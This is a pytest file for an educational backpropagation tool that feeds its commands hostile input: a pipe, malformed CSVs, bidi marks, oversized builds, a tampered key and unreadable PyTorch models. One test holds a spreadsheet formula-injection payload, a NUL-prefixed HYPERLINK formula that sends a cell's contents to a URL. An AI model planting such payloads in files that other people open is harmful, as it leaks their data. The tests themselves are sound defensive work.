"""What a hostile pass over the doors of issue 20 found after the first round of fixes, each
case a promise of the README kept: a NUL before a formula, the last bidi mark, a pipe of
answers, a Macintosh spreadsheet, an unclosed quote, a tampered key's work, a big build's
memory, training that would run for hours, PyTorch models that cannot be read, and the API's
argument types. Each command runs as its own bounded process (tests/hostile.py); the slow ones
(a build of 1,000 versions) run with `make test-slow`."""

from __future__ import annotations

import csv
import gzip
import inspect
import io
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

import symbackprop

from . import hostile
from .conftest import WORKSHEETS
from .hostile import BLOG, CLASS_SET, FORMULA, assert_refused, run

keys = hostile.keys  # the class set's keys: a fixture the hostile suites share


def _labels(keys: Path) -> list[str]:
    key = json.loads((keys / "class-set-2-2-2-v01-key.json").read_text())
    return [a["label"] for a in key["answers"]]


def _answers(keys: Path, rows: list[tuple[str, str]], newline: str = "\r\n") -> str:
    labels = _labels(keys)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(["name", "version", *labels])
    for name, version in rows:
        writer.writerow([name, version, "0.1954", *[""] * (len(labels) - 1)])
    return out.getvalue()


# --- security: text that reaches another program ---------------------------------------------

def test_a_nul_before_a_formula_in_a_name_is_neutralised(keys, tmp_path):
    """LibreOffice Calc drops a leading NUL and runs the rest: "\\x00=HYPERLINK(...)" in
    gradebook.csv opens as a live HYPERLINK formula (checked with soffice 7.4 --convert-to
    ods, default CSV import). text_cell only looks at the first character."""
    name = '\x00=HYPERLINK("http://127.0.0.1/?"&A1,"open")'
    (tmp_path / "class.csv").write_text(_answers(keys, [(name, "1")]), encoding="utf-8")
    result = run(["mark", str(keys), "class.csv", "--out", "m"], tmp_path)
    assert result.code == 0, result.stderr
    with open(tmp_path / "m" / "gradebook.csv", encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    for cell in cells:
        assert not cell.lstrip("\x00").startswith(FORMULA), repr(cell)
    soffice = shutil.which("soffice")
    if soffice:  # the receiving program itself
        subprocess.run([soffice, "--headless", "--convert-to", "ods", "--outdir",
                        str(tmp_path), str(tmp_path / "m" / "gradebook.csv")],
                       capture_output=True, timeout=120)
        content = subprocess.run(["unzip", "-p", str(tmp_path / "gradebook.ods"),
                                  "content.xml"], capture_output=True, text=True).stdout
        assert "HYPERLINK" not in "".join(re.findall(r'table:formula="[^"]*"', content))


ALM = "\u061c"  # ARABIC LETTER MARK: a Bidi_Control character, like U+200F and U+202E


def test_the_arabic_letter_mark_is_shown_not_sent_by_every_command(keys, tmp_path):
    """terminal_safe escapes U+200E/F, U+202A-E and U+2066-9 but not U+061C, the remaining
    Bidi_Control character: it reaches the terminal raw wherever a message is not one_line'd
    (stdout of check, build, mark and audit; check's and mark's per-line stderr)."""
    key = json.loads(json.dumps(symbackprop.worksheet(BLOG).key))
    for blank in key["scheme"]["blanks"]:
        blank["working"] = f"work {ALM}reordered"
    (tmp_path / "k.json").write_text(json.dumps(key))
    (tmp_path / f"a{ALM}.txt").write_text("a = -0.3775\nzz = 1\n")
    (tmp_path / "a.csv").write_text(_answers(keys, [("Ada", "1"), ("Bob", "9")]))
    shutil.copy(BLOG, tmp_path / f"b{ALM}.yaml")
    results = [run(["check", "k.json", f"a{ALM}.txt"], tmp_path),
               run(["mark", str(keys), "a.csv", "--out", f"m{ALM}"], tmp_path),
               run(["build", str(BLOG), "--format", "tex", "--out", f"o{ALM}"], tmp_path),
               run(["audit", f"b{ALM}.yaml"], tmp_path)]
    for result in results:
        assert result.code == 0, result.stderr
        for stream in (result.stdout, result.stderr):
            assert ALM not in stream, stream[:300]


# --- hangs, crashes and memory ----------------------------------------------------------------

def test_an_answers_file_that_is_a_pipe_is_refused_at_once(keys, tmp_path):
    """check reads its answers with a plain open(): a FIFO with no writer blocks forever
    (keys, rosters, definitions and mark's CSV are refused unread)."""
    os.mkfifo(tmp_path / "answers.txt")
    try:
        result = run(["check", str(keys / "class-set-2-2-2-v01-key.json"), "answers.txt"],
                     tmp_path, timeout=20)
    except subprocess.TimeoutExpired:
        pytest.fail("check waited on a FIFO of answers for 20 s")
    assert_refused(result, "answers.txt", "a pipe")


def test_a_spreadsheet_with_carriage_return_line_ends_is_no_traceback(keys, tmp_path):
    """Excel for Mac's "CSV (Macintosh)" ends lines with CR alone: delimiter_of feeds the
    first line, CR and all, to csv.reader, whose _csv.Error escapes as a traceback (exit 1)."""
    text = _answers(keys, [("Ada", "1"), ("Bob", "2")], newline="\r")
    (tmp_path / "class.csv").write_bytes(text.encode())
    result = run(["mark", str(keys), "class.csv", "--out", "m"], tmp_path)
    assert "Traceback" not in result.stderr, result.stderr[-600:]
    assert result.code in (0, 2), result.stderr[-600:]
    if result.code == 2:
        assert_refused(result, "class.csv")
        assert not (tmp_path / "m").exists()


def test_a_tampered_key_cannot_make_mark_take_hours(keys, tmp_path):
    """A key.json that validates (190 rules x 50 candidates a blank, 15.8 MB) makes every
    wrong answer cost ~30 ms: 1 s a student, about 3 hours for the 10,000 a CSV may hold.
    check takes 2.5 s for one answers file; mark multiplies it by the class."""
    key = json.loads((keys / "class-set-2-2-2-v01-key.json").read_text())
    diagnoses = list(key["scheme"]["messages"])
    for blank in key["scheme"]["blanks"]:
        blank["mistakes"] = [{"diagnosis": diagnoses[i % len(diagnoses)], "candidates": [
            ["add", ["ref", "x[1]"], ["mul", 3, ["ref", "x[2]"]], j + 1000.5]
            for j in range(50)]} for i in range(190)]
    folder = tmp_path / "k"
    folder.mkdir()
    (folder / "class-set-2-2-2-v01-key.json").write_text(json.dumps(key, separators=(",", ":")))
    labels = _labels(keys)
    rows = ["name,version," + ",".join(labels)]
    rows += [f"S{i},1," + ",".join(["9"] * len(labels)) for i in range(200)]
    (tmp_path / "a.csv").write_text("\n".join(rows) + "\n")
    try:
        result = run(["mark", "k", "a.csv", "--out", "m"], tmp_path, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("mark of 200 students took more than 60 s with a tampered key")
    assert result.code in (0, 2)


@pytest.mark.slow
def test_a_thousand_versions_with_pages_and_moodle_fit_the_memory_bound(tmp_path):
    """--versions is at most 1,000 a build, and build 'stays near 80 MB'; but it keeps every
    version's sheet for the pages and Moodle: the bundled 2-2-2 set at 1,000 versions with
    html, moodle and moodle-numerical peaks at 2.7 GB RSS and, under hostile.py's 3 GiB,
    ends after 2.5 minutes with 'too large to compute here (out of memory)'. A sheet of 6
    drawn examples dies the same way under 4 GB after 7.5 minutes."""
    sheet = tmp_path / "big.yaml"
    sheet.write_text(CLASS_SET.read_text().replace("versions: 30", "versions: 1000"))
    result = run(["build", str(sheet), "--format", "html", "--format", "moodle", "--format",
                  "moodle-numerical", "--out", "o"], tmp_path, timeout=600)
    assert result.code == 0, result.stderr[-500:]


def _repeated_digits(path: Path) -> None:
    """16 MiB of digit lines (115,340 examples, 64 times the bundled set) in 118 KB of gzip:
    within the 1 MiB and 16 MiB bounds."""
    lines = gzip.open(WORKSHEETS / "data" / "uci-digits.csv.gz", "rt").read().splitlines(
        keepends=True)[:100]
    out, size, i = [], 0, 0
    while size + len(lines[i % 100]) <= 16 * 2**20 - 1000:
        out.append(lines[i % 100])
        size += len(lines[i % 100])
        i += 1
    path.write_bytes(gzip.compress("".join(out).encode(), 9))


@pytest.mark.slow
def test_a_digits_lesson_is_bounded_to_seconds_of_training(tmp_path):
    """'all the runs together are at most 1,200 epochs (about 15 s)': the bound counts epochs,
    not examples, so a data file of 115,340 digits and hidden 64 make it hours (about 7 s an
    epoch here, 1,190 epochs); it is accepted and runs until killed."""
    _repeated_digits(tmp_path / "big.csv.gz")
    (tmp_path / "lesson.yaml").write_text(
        "kind: digits_classifier\ntitle: Slow\nseed: 1\nlesson:\n  data: big.csv.gz\n"
        "  hidden: 64\n  epochs: 35\n  batch_size: 8\n  grid:\n    hidden: [64, 63, 62, 61]\n"
        "    learning_rates: [0.1, 0.5, 2.0, 5.0]\n")
    try:
        result = run(["build", "lesson.yaml", "--format", "tex", "--out", "o"], tmp_path,
                     timeout=120)
    except subprocess.TimeoutExpired:
        pytest.fail("an admitted digits_classifier sheet trained for more than 120 s")
    assert result.code in (0, 2)


# --- one line, naming the file and the line ---------------------------------------------------

def test_an_unterminated_quote_does_not_drop_the_students_after_it(keys, tmp_path):
    """A stray quote before a name swallows every row after it into one cell: only its own
    line is reported ('1 columns'), and the students below are neither marked nor named."""
    labels = _labels(keys)
    blank = "," * (len(labels) - 1)
    lines = ["name,version," + ",".join(labels), f"Ada,1,0.1954{blank}",
             f'"Bob,1,0.1954{blank}', f"Cy,1,0.1954{blank}", f"Dee,2,0.1954{blank}"]
    (tmp_path / "class.csv").write_text("\n".join(lines) + "\n")
    result = run(["mark", str(keys), "class.csv", "--out", "m"], tmp_path)
    names = set()
    if (tmp_path / "m" / "gradebook.csv").exists():
        with open(tmp_path / "m" / "gradebook.csv", encoding="utf-8-sig", newline="") as handle:
            names = {r["name"] for r in csv.DictReader(handle)}
    said = result.stderr
    assert {"Cy", "Dee"} <= names or ("Cy" in said and "Dee" in said) or "quote" in said, said


def test_a_class_where_no_row_can_be_marked_is_one_line(keys, tmp_path):
    """Refused with exit code 2, but after one line per bad row: three lines here."""
    (tmp_path / "class.csv").write_text(_answers(keys, [("Ada", "9"), ("Bob", "8")]))
    result = run(["mark", str(keys), "class.csv", "--out", "m"], tmp_path)
    assert_refused(result, "class.csv")


def test_an_answers_file_saved_with_a_bom_keeps_its_first_answer(keys, tmp_path):
    """Notepad's UTF-8 starts with a BOM: check reports '\\ufeffa' is not a label and marks
    the first answer missing (mark's CSV reader ignores the BOM)."""
    (tmp_path / "a.txt").write_bytes(b"\xef\xbb\xbfa = 0.1954\r\nb = 0.5487\r\n")
    result = run(["check", str(keys / "class-set-2-2-2-v01-key.json"), "a.txt", "--json"],
                 tmp_path)
    assert result.code == 0, result.stderr
    assert "\\ufeff" not in result.stderr
    marks = {m["label"]: m["verdict"] for m in json.loads(result.stdout)["answers"]}
    assert marks["a"] == marks["b"] == "correct"


def test_a_file_name_with_a_newline_is_one_line_in_checks_messages(keys, tmp_path):
    (tmp_path / "bad\nname.txt").write_text("zz = 1\na = 0.1\n")
    result = run(["check", str(keys / "class-set-2-2-2-v01-key.json"), "bad\nname.txt"],
                 tmp_path)
    assert result.code == 0
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_a_bad_line_of_a_data_set_is_named_by_its_line_in_the_file(tmp_path):
    """Comment lines are dropped before the rows are counted: the bad label on line 44 is
    reported as 'line 41 of the data'."""
    row = lambda label, px: f"{label}," + ",".join([str(px)] * 64) + "\n"  # noqa: E731
    text = "# one\n# two\n# three\n" + "".join(row(i % 10, i % 17) for i in range(40))
    (tmp_path / "d.csv").write_text(text + row(11, 0))
    (tmp_path / "t.yaml").write_text(
        "network: {layers: [64, 4, 10], activation: [sigmoid, softmax], loss: cross_entropy}\n"
        "data: {file: d.csv}\n")
    result = run(["train", "t.yaml", "--epochs", "1"], tmp_path)
    assert_refused(result, "d.csv", "line 44")


@pytest.mark.parametrize("args", [["train", "n.yaml", "--steps", "100"],
                                  ["train", "n.yaml", "--steps", "100", "--json"]])
def test_a_diverging_descent_names_the_file(tmp_path, args):
    """'the loss is no longer a finite number at step 15: ...' names no file."""
    (tmp_path / "n.yaml").write_text(
        "network: {layers: [2, 2], activation: identity, loss: sse, bias: none}\n"
        "values: {inputs: [1, 1], targets: [0, 1], weights: [[[1, 0.1], [0.2, 0.3]]]}\n"
        "learning_rate: 1e10\n")
    assert_refused(run(args, tmp_path), "n.yaml")


def test_an_audit_of_a_diverging_descent_names_the_file_and_the_step(tmp_path):
    """The audit says 'at step 100000' for a descent that stopped being finite at step 15."""
    (tmp_path / "n.yaml").write_text(
        "network: {layers: [2, 2], activation: identity, loss: sse, bias: none}\n"
        "values: {inputs: [1, 1], targets: [0, 1], weights: [[[1, 0.1], [0.2, 0.3]]]}\n"
        "learning_rate: 1e10\nclaimed: {loss_after_steps: {100000: 0.1}}\n")
    assert_refused(run(["audit", "n.yaml"], tmp_path), "n.yaml", "step 15")


def test_an_unnumbered_build_beside_a_set_is_not_called_a_part(tmp_path):
    """'a build of part of a set (--first-version) is refused': a plain build (no
    --versions, no --first-version) beside an earlier set of other numbers is refused
    'beside the part of the set this build makes', which it does not make."""
    sheet = tmp_path / "r.yaml"
    sheet.write_text(CLASS_SET.read_text().replace("versions: 30", "") + "\n")
    assert run(["build", "r.yaml", "--versions", "3", "--seed", "1", "--format", "tex",
                "--out", "o"], tmp_path).code == 0
    result = run(["build", "r.yaml", "--seed", "2", "--format", "tex", "--out", "o"], tmp_path)
    assert "part of the set" not in result.stderr, result.stderr


# --- the Python API -------------------------------------------------------------------------

@pytest.mark.parametrize("call, said", [
    (lambda: symbackprop.train(BLOG, steps=None), "steps"),
    (lambda: symbackprop.parse(None), "text"),
    (lambda: symbackprop.parse(b"network: {}"), "text"),
    (lambda: symbackprop.proof(["sigmoid"]), "name"),
    (lambda: symbackprop.from_torch(_model(), [0.1, 0.2], [1.0, 0.0], loss=["mse"]), "loss")])
def test_a_wrong_type_is_a_type_error_naming_the_argument(call, said):
    with pytest.raises((TypeError, symbackprop.DefinitionError)) as caught:
        call()
    assert re.search(rf"\b{said}\b", str(caught.value)), str(caught.value)


def test_the_api_trains_a_version_of_a_class_set():
    """`train FILE --version 3 --steps N` works; symbackprop.train has no version, and
    refuses a class set with 'give version (1 to 30 ...)', an argument it does not take."""
    assert "version" in inspect.signature(symbackprop.train).parameters
    symbackprop.train(CLASS_SET, steps=2, version=3)


def _model():
    torch = pytest.importorskip("torch")
    torch.manual_seed(0)
    nn = torch.nn
    return nn.Sequential(nn.Linear(2, 2), nn.Sigmoid(), nn.Linear(2, 2))


def test_from_torch_refuses_what_it_cannot_read_naming_the_module():
    """'anything else is refused naming the module it cannot read': a LazyLinear raises
    torch's ValueError, a small meta-device model NotImplementedError."""
    torch = pytest.importorskip("torch")
    nn = torch.nn
    for model in (nn.Sequential(nn.LazyLinear(2)),
                  nn.Sequential(nn.Linear(2, 2, device="meta"))):
        with pytest.raises(symbackprop.DefinitionError, match=r"model\[0\]"):
            symbackprop.from_torch(model, [0.1, 0.2], [1.0, 0.0], loss="mse")


def test_from_torch_refuses_complex_weights_without_a_warning():
    """A complex64 Linear is read with its imaginary parts dropped (torch's UserWarning
    'Casting complex values to real discards the imaginary part'): another network."""
    torch = pytest.importorskip("torch")
    model = torch.nn.Sequential(torch.nn.Linear(2, 2, dtype=torch.complex64))
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        with pytest.raises(symbackprop.DefinitionError, match=r"model\[0\]"):
            symbackprop.from_torch(model, [0.1, 0.2], [1.0, 0.0], loss="mse")


@pytest.mark.parametrize("how", ["frozen", "no_grad", "inference_mode"])
def test_compare_torch_works_on_a_frozen_model_or_says_why(how):
    """A model in evaluation (requires_grad False), or a call inside torch.no_grad(), raises
    torch's RuntimeError "can't retain_grad on Tensor that has requires_grad=False"."""
    torch = pytest.importorskip("torch")
    model = _model()
    if how == "frozen":
        for p in model.parameters():
            p.requires_grad_(False)
    context = {"frozen": torch.enable_grad, "no_grad": torch.no_grad,
               "inference_mode": torch.inference_mode}[how]
    with context():
        try:
            comparison = symbackprop.compare_torch(model, [0.1, 0.2], [1.0, 0.0])
        except symbackprop.DefinitionError:
            return  # a refusal that says why is kept
    assert comparison.max_rel_diff < 1e-9
